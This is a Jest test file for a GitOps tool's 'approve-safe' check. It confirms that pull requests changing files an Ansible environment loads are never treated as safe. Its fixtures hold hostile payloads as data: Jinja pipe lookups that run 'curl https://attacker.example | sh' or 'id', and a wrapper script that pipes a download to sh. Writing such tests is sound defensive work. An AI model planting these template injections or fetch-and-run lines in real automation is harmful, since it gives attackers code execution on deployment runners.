/**
 * approve-safe and an Ansible environment: ansible-playbook reads the playbook's folder (its roles,
 * templates, group_vars, ansible.cfg), the inventory (and the group_vars beside it) and the extra-vars
 * files, and drift-detect runs a `binary` given as a path; a saved compliance result (AWS Config) is what
 * drift reads. A pull request may not change any of them
 * without a human, whatever safe_paths says. Real git, real Octokit against the loopback GitHub.
 */
import { rmSync } from 'node:fs';
import { afterEach, describe, expect, test } from '@jest/globals';
import { cli } from './support/cli.js';
import { ghPullRequest, ghUser, useFakeGitHub } from './support/fake-github.js';
import { pullRequestRepo, type FileChange, type PullRequestRepo } from './support/git-repo.js';

const github = useFakeGitHub();
const repos: PullRequestRepo[] = [];
afterEach(() => {
  for (const repo of repos.splice(0)) rmSync(repo.dir, { recursive: true, force: true });
});

const CONFIG = [
  'environments:',
  '  web:',
  '    ansible:',
  '      playbook: ansible/site.yml',
  '      inventory: inventories/prod/hosts.ini',
  '      extra_vars: ["@vars/web.md"]',
  '      binary: tools/ansible-playbook',
  '    aws_config: { file: docs/aws-config.json }',
  'approval:',
  '  safe_paths: ["docs/**", "**/*.md", "tools/**"]',
  '',
].join('\n');

const BASE: Record<string, FileChange> = {
  'gitops-sync.yaml': CONFIG,
  'ansible/site.yml': '- hosts: web\n  roles: [web]\n',
  'ansible/roles/web/tasks/main.yml': '- template: { src: motd.md, dest: /etc/motd }\n',
  'ansible/roles/web/templates/motd.md': 'Welcome to {{ inventory_hostname }}\n',
  'inventories/prod/hosts.ini': '[web]\nweb1\n',
  'inventories/prod/group_vars/README.md': 'notes\n',
  'vars/web.md': '{"motd": "hello"}\n',
  'tools/ansible-playbook': '#!/bin/sh\nexec ansible-playbook "$@"\n',
  'docs/guide.md': 'guide\n',
  'docs/aws-config.json': '{"EvaluationResults": []}\n',
};

async function approveSafe(head: Record<string, FileChange>) {
  const repo = pullRequestRepo(BASE, head);
  repos.push(repo);
  github.state.pulls.set(7, ghPullRequest(ghUser('alice'), { number: 7, head: repo.headSha, base: repo.baseSha }, { files: repo.files }));
  const run = await cli(['approve-safe', '--platform', 'github', '--repo', 'owner/repo', '--pr', '7', '--dry-run', '--format', 'json'], {
    cwd: repo.dir,
    env: { GITHUB_TOKEN: github.state.token, GITHUB_API_URL: github.url, GITHUB_ACTIONS: '' },
  });
  expect(run.code).toBe(0);
  return JSON.parse(run.stdout) as { safe: boolean; findings: { path: string | null; reason: string }[] };
}

describe('files an Ansible environment loads are never safe', () => {
  test.each([
    ['a role template in the playbook folder (rendered by Jinja on the runner)', 'ansible/roles/web/templates/motd.md', "Welcome {{ lookup('pipe', 'curl https://attacker.example | sh') }}\n"],
    ['a file beside the inventory', 'inventories/prod/group_vars/README.md', 'changed\n'],
    ['an extra-vars file', 'vars/web.md', '{"motd": "{{ lookup(\'pipe\', \'id\') }}"}\n'],
    ['the ansible-playbook binary drift-detect runs', 'tools/ansible-playbook', '#!/bin/sh\ncurl https://attacker.example | sh\n'],
    ['the saved AWS Config result drift reads (hiding a non-compliant resource)', 'docs/aws-config.json', '{"EvaluationResults": []} \n'],
  ])('%s', async (_what, path, content) => {
    const decision = await approveSafe({ [path]: content });
    expect(decision).toMatchObject({ safe: false });
    expect(decision.findings).toEqual([{ path, reason: expect.stringContaining('loaded by environment web') }]);
  });

  test('documentation outside them stays safe', async () => {
    expect(await approveSafe({ 'docs/guide.md': 'better guide\n' })).toMatchObject({ safe: true, findings: [] });
  });
});
